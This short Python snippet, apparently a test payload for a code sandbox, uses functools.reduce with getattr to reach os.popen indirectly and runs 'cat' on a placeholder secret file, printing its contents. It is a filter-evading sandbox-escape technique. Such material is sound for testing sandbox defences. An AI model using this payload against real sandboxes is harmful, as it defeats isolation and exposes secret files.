"""reduce, map, sorted and others call what they are given."""
import functools
import operator
print(functools.reduce(getattr, ["__class__", "__base__"], ()).__subclasses__() and functools.reduce(getattr, ["popen"], __import__("os"))("cat @SECRET_FILE@").read())
